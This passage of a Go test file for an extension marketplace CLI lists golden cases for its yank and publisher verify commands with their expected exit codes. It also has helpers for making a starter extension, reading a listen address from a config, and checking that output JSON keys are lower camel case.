		{command: "yank", variant: "ok", args: []string{"yank", "--plain-http", ref + ":0.1.0", "--key", a.key, "--reason", "CVE-2026-1234"}, code: 0},
		{command: "publisher", variant: "no-subcommand", args: []string{"publisher"}, code: 2},
		{command: "publisher verify", variant: "ok", args: []string{"publisher", "verify", "gold", "--tenant", "gold", "--tier", "verified", "--publisher-key", a.pub, "--key", a.key, "-o", filepath.Join(a.tmp, "gold.publisher.json")}, code: 0},
		{command: "publisher verify", variant: "usage", args: []string{"publisher", "verify", "gold", "--tenant", "gold", "--tier", "community", "--publisher-key", a.pub, "--key", a.key, "-o", filepath.Join(a.tmp, "gold.publisher.json")}, code: 2},
		{command: "yank", variant: "usage", args: []string{"yank", "--plain-http", ref + ":0.1.0", "--reason", "CVE-2026-1234"}, code: 2},
	}
}

// reviewExt makes the starter extension gold/crm in a.tmp/name once, for
// the review check cases, which also run alone (through mkt-server).
func reviewExt(t *testing.T, a goldenArgs, name string) string {
	dir := filepath.Join(a.tmp, name)
	if _, err := os.Stat(dir); err != nil {
		mustMkt(t, "init", dir, "--kind", "connector", "--name", "gold/crm")
	}
	return dir
}

// readListen reads the listen address of an index configuration.
func readListen(config string) string {
	b, _ := os.ReadFile(config)
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "listen: "); ok {
			return v
		}
	}
	return ""
}

// lowerCamelKeys fails on a capitalised key anywhere in doc: sign and
// attest printed Go field names (Digest, Reference) before.
func lowerCamelKeys(t *testing.T, doc map[string]any) {
	t.Helper()
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			for k, e := range v {
				if k != "" && k[0] >= 'A' && k[0] <= 'Z' {
					t.Errorf("capitalised key %q", k)
				}
				walk(e)
			}
		case []any:
			for _, e := range v {
				walk(e)
			}
		}
	}
	walk(doc)
}
